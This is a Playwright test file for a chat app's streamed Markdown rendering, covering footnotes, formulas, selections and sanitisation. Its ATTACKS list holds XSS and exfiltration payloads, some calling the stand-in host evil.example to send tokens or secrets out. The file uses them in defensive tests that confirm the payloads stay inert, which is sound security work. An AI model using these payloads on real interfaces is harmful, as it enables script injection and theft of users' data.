"""Markdown while it streams, and output that means harm."""

import json
import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect
from werkzeug import Response

from tests.browser.conftest import PEN, OpenPage, ask, sample
from tests.browser.pen import Pen
from tests.conftest import Handler

DOCUMENT = """# Heading

A paragraph with **bold**, *italic*, `code`, ~~gone~~ and a [link](https://example.com/a?b=c).
Its second line.

Setext
------

- one
- two
  - nested
  - again

  a second paragraph of two
- [x] done

1. first
2. second

10. tenth

> a quotation
> goes on

| a | b |
|---|--:|
| 1 | 2 |
| 3 | 4 |
| 5 | 6 |

```js
let a = "```";
let b = 1;
```

~~~
no language
~~~

Euler: $e^{i\\pi} = -1$, not $5 or $10.

$$
\\int_0^1 x\\,dx
$$

See [the reference][r].

[r]: https://example.org/

A claim[^source] and another[^2].

[^source]: Where it *stands*.
[^2]: Elsewhere,
over two lines.

***

***bold italic*** at the end
"""


@pytest.fixture
def page(open_page: OpenPage, pen: Pen) -> Page:
    return open_page(model=PEN)


def rendered(page: Page) -> str:
    """The markup of the last answer, but for what can't be seen: how text is cut into nodes, and white space between elements."""
    markup = page.locator(".answer .prose").last.evaluate("prose => { prose.normalize(); return prose.innerHTML }")
    return re.sub(r">\s+<", "><", markup)


def test_each_kind_of_block(page: Page, pen: Pen) -> None:
    ask(page, "Hello")
    pen.answer(DOCUMENT)
    prose = page.locator(".answer .prose")
    expect(prose.locator("h3")).to_have_text("Heading")
    expect(prose.locator("h4")).to_have_text("Setext")
    expect(prose.locator("strong").first).to_have_text("bold")
    expect(prose.get_by_role("link", name="link")).to_have_attribute("href", "https://example.com/a?b=c")
    expect(prose.get_by_role("link", name="link")).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(prose.locator("ul > li > ul > li")).to_have_count(2)
    expect(prose.locator("> ol > li")).to_have_count(3)
    expect(prose.locator("tbody tr")).to_have_count(3)
    expect(prose.locator("blockquote")).to_contain_text("goes on")
    expect(prose.locator(".code .language").first).to_have_text("js")
    expect(prose.locator(".code .hljs-keyword").first).to_have_text("let")
    expect(prose.locator("math")).to_have_count(2)
    expect(prose).to_contain_text("not $5 or $10.")


def test_streamed_letter_by_letter_it_looks_as_it_does_at_once(page: Page, pen: Pen) -> None:
    """But for two liberties: whether the space around a list's items is wide or narrow, and links defined only later."""
    text = DOCUMENT.replace("  a second paragraph of two\n", "").replace(
        "See [the reference][r].\n\n[r]: https://example.org/\n\n", ""
    )
    text = text.replace("  - again\n\n", "  - again\n").replace("2. second\n\n10. tenth", "2. second\n3. third")
    ask(page, "At once")
    pen.answer(text)
    expect(page.locator(".answer math")).to_have_count(2)
    expect(page.locator(".answer .hljs-keyword")).to_have_count(2)
    expect(page.locator(".answer .notes")).to_be_visible()
    whole = rendered(page)
    ask(page, "Letter by letter")
    for at, letter in enumerate(text):
        pen.write(letter)
        if at % 40 == 0:
            page.evaluate("() => new Promise(requestAnimationFrame)")
    pen.finish()
    expect(page.locator(".answer").nth(1)).to_have_attribute("data-state", "ended")
    expect(page.locator(".answer").nth(1).locator("math")).to_have_count(2)
    expect(page.locator(".answer").nth(1).locator(".hljs-keyword")).to_have_count(2)
    assert rendered(page) == whole


NOTES = """First[^b], second[^a], first again[^b], a class of [^a-z].

[^a]: Text of **a**.
[^b]: Text of b,
goes on.

    And has more.

[^c]: Nobody asks for it.

After."""


def test_footnotes_lead_to_the_end_of_their_own_answer_and_back(page: Page, pen: Pen) -> None:
    for number in range(2):
        ask(page, "Hello")
        pen.write(NOTES[:60])
        expect(page.locator(".answer").nth(number)).to_contain_text("Fir")
        pen.answer(NOTES[60:])
        expect(page.locator(".answer .notes")).to_have_count(number + 1)
    answer = page.locator(".answer").first
    first = re.compile(r"^Text of b,\s+goes on.\s+And has more.")
    expect(answer.locator(".notes li")).to_have_text([first, re.compile("^Text of a."), re.compile("^Nobody asks for it.")])
    text = "FirstFootnote 1, secondFootnote 2, first againFootnote 1, a class of [^a-z]."
    expect(answer.locator(".prose > p").first).to_have_text(text)
    expect(answer.locator(".prose > :last-child")).to_have_class("notes")
    marks = answer.get_by_role("button", name="Footnote 1", exact=True)
    expect(marks).to_have_count(2)
    marks.nth(1).click()
    expect(answer.locator(".notes li").first).to_be_focused()
    expect(answer.locator(".notes li").first).to_be_in_viewport()
    page.keyboard.press("Tab")
    expect(answer.get_by_role("button", name="Back to the text").first).to_be_focused()
    page.keyboard.press("Enter")
    expect(marks.nth(1)).to_be_focused()
    expect(answer.get_by_role("button", name="Back to the text")).to_have_count(2)


def test_formulas_bring_their_font(page: Page, pen: Pen) -> None:
    statuses = "[...document.fonts].filter(({ family }) => family === 'STIX2').map(({ status }) => status)"
    ask(page, "Hello")
    pen.answer("No formula.")
    expect(page.locator(".answer")).to_have_attribute("data-state", "ended")
    assert page.evaluate(statuses) == ["unloaded"]
    ask(page, "And one?")
    pen.answer("$$\\underbrace{x + x + \\dots + x + x}_{n}$$")
    expect(page.locator(".answer math")).to_be_visible()
    assert page.evaluate(f"document.fonts.ready.then(() => {statuses})") == ["loaded"]
    expect(page.locator(".answer math")).to_have_css("font-family", "STIX2, math")
    expect(page.locator(".answer .math")).to_have_text("x+x+⋯+x+x⏟n")


def test_an_item_with_a_box_has_no_bullet(page: Page, pen: Pen) -> None:
    ask(page, "Hello")
    pen.answer("- [x] one\n- [ ] two\n- three\n\n1. [x] loose\n\n   more\n")
    items = page.locator(".answer li")
    expect(items).to_have_text(["one", "two", "three", re.compile("^\\s*loose\\s+more")])
    styles = [item.evaluate("item => getComputedStyle(item).listStyleType") for item in items.all()]
    assert styles == ["none", "none", "disc", "none"]
    for at, name in [(0, "Done"), (1, "To do"), (3, "Done")]:
        expect(items.nth(at).get_by_role("img", name=name, exact=True)).to_be_visible()


def test_half_written_markup_is_shown_as_what_it_will_be(page: Page, pen: Pen) -> None:
    ask(page, "Hello")
    pen.write("This is **very imp")
    expect(page.locator(".answer strong")).to_have_text("very imp")
    pen.write("ortant** and [a link](https://exa")
    expect(page.locator(".answer .prose")).to_have_text("This is very important and a link")


def test_what_is_settled_is_never_rendered_again(page: Page, pen: Pen) -> None:
    ask(page, "Hello")
    pen.write("First paragraph.\n\n- item one\n- item two\n- item three\n")
    expect(page.locator(".answer li")).to_have_count(3)
    page.locator(".answer .prose > p").first.evaluate("element => { element.dataset.mark = 'same' }")
    page.locator(".answer li").first.evaluate("element => { element.dataset.mark = 'same' }")
    pen.write("- item four\n\nAnother paragraph.\n\n```py\nx = 1\n")
    expect(page.locator(".answer code")).to_have_text("x = 1\n")
    page.locator(".answer .piece").first.evaluate("element => { element.dataset.mark = 'same' }")
    pen.write("y = 2\n")
    expect(page.locator(".answer code")).to_contain_text("y = 2")
    expect(page.locator(".answer [data-mark=same]")).to_have_count(3)


SELECT = """text => {
  const walker = document.createTreeWalker([...document.querySelectorAll('.answer .prose')].at(-1), NodeFilter.SHOW_TEXT);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    const at = node.data.indexOf(text);
    if (at >= 0) getSelection().setBaseAndExtent(node, at, node, at + text.length);
  }
}"""

GROWING = [
    ("Some words with **bold", " and** more.\n\nThe end."),
    ("- one\n- some words", " and more\n- three\n\nThe end."),
    ("- some words", " and more\n- three\n\nThe end."),
    ("# Some words", " and more\n\nThe end."),
    ("> Some words", " and more\n> again\n\nThe end."),
    ("| a | b |\n|---|---|\n| some words |", " x |\n| y | z |\n\nThe end."),
]


def test_a_selection_stays_while_what_it_is_in_is_written(page: Page, pen: Pen) -> None:
    for number, (text, more) in enumerate(GROWING):
        ask(page, "Hello")
        pen.write(text)
        answer = page.locator(".answer").nth(number)
        expect(answer.locator(".prose")).to_contain_text("words")
        page.evaluate(SELECT, "words")
        for letter in more:
            pen.write(letter)
            page.evaluate("() => new Promise(requestAnimationFrame)")
        pen.finish()
        expect(answer).to_have_attribute("data-state", "ended")
        expect(answer.locator(".prose > p").last).to_have_text("The end.")
        assert page.evaluate("getSelection().toString()") == "words", text


def test_the_hostile_sample_does_nothing(open_page: OpenPage, play: Callable[[Handler], str]) -> None:
    page = open_page(model=play(lambda _: Response(sample("hostile.sse"), mimetype="text/event-stream")))
    ask(page, "Hello")
    expect(page.locator(".answer")).to_have_attribute("data-state", "ended")
    prose = page.locator(".answer .prose")
    expect(prose).to_be_visible()
    expect(prose.locator("script, style, img, iframe, [onerror]")).to_have_count(0)
    expect(prose.get_by_text("click")).not_to_have_attribute("href", "javascript:alert(2)")
    expect(prose).to_contain_text("<script>alert(3)</script>")


ATTACKS = [
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form action=https://evil.example><input name=token><button>Send",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](/v1/chat/completions)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/"onerror="alert(1))',
    "![x](https://evil.example/pixel.png?q=secret)",
    "[![x](https://evil.example/pixel.png)](javascript:alert(1))",
    '<div style="background:url(https://evil.example/pixel.png)">x</div>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<input autofocus onfocus=alert(1)>",
    "<b onmouseover=alert(1)>b</b>",
    "<u style=position:fixed>u</u>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$$\\includegraphics{https://evil.example/x.png}$$",
    "$\\style{position:fixed}{x}$ $\\class{a}{x}$ $\\id{status}{x}$",
    '<p id="transcript" class="panel">x</p>',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_does_nothing(page: Page, pen: Pen, attack: str) -> None:
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    ask(page, "Hello")
    pen.answer(f"Before.\n\n{attack}\n\nAfter.")
    prose = page.locator(".answer .prose")
    expect(prose).to_contain_text("After.")
    expect(page.locator(".answer")).to_have_attribute("data-state", "ended")
    assert prose.evaluate(HARMFUL) == []


HARMFUL = """prose => [...prose.querySelectorAll('*')].flatMap(element => [
    ...(/^(script|style|link|base|meta|iframe|object|embed|form|input|img|svg|video|audio|foreignobject)$/i.test(element.localName)
        && !element.closest('button, .picture') ? [element.outerHTML] : []),
    ...[...element.attributes].filter(({ name, value }) =>
        /^on|^srcset$|^src$|^id$/i.test(name) || (/href/.test(name) && !/^(https?:|mailto:|#icon-)/i.test(value))
        || (name === 'style' && !element.closest('math'))).map(({ name, value }) => `${name}=${value}`),
])"""


def test_a_picture_waits_for_a_click_and_opens_elsewhere(page: Page, pen: Pen) -> None:
    ask(page, "Hello")
    pen.answer("![A cat](https://pictures.example/cat.png)")
    picture = page.locator(".answer .picture")
    expect(picture).to_contain_text("Open the picture: A cat")
    expect(picture).to_contain_text("pictures.example")
    expect(picture).to_have_attribute("href", "https://pictures.example/cat.png")
    expect(picture).to_have_attribute("target", "_blank")


def test_the_policy_stops_what_would_slip_through(open_page: OpenPage) -> None:
    """Trusted Types refuse a string where markup is expected, whoever writes it."""
    page = open_page(refusals=True, tolerate=["Trusted Type", "TrustedHTML"])
    error = page.evaluate("() => { try { document.body.innerHTML = '<p>x</p>' } catch (error) { return error.name } }")
    assert error == "TypeError"


def test_a_question_is_shown_as_it_was_typed(page: Page, pen: Pen) -> None:
    text = json.dumps({"<b>": "**not bold**"}) + "\n  two spaces"
    page.get_by_label("Your message").fill(text)
    page.keyboard.press("Enter")
    expect(page.locator(".question .prose")).to_have_text(text, use_inner_text=True)
    expect(page.locator(".question b, .question strong")).to_have_count(0)
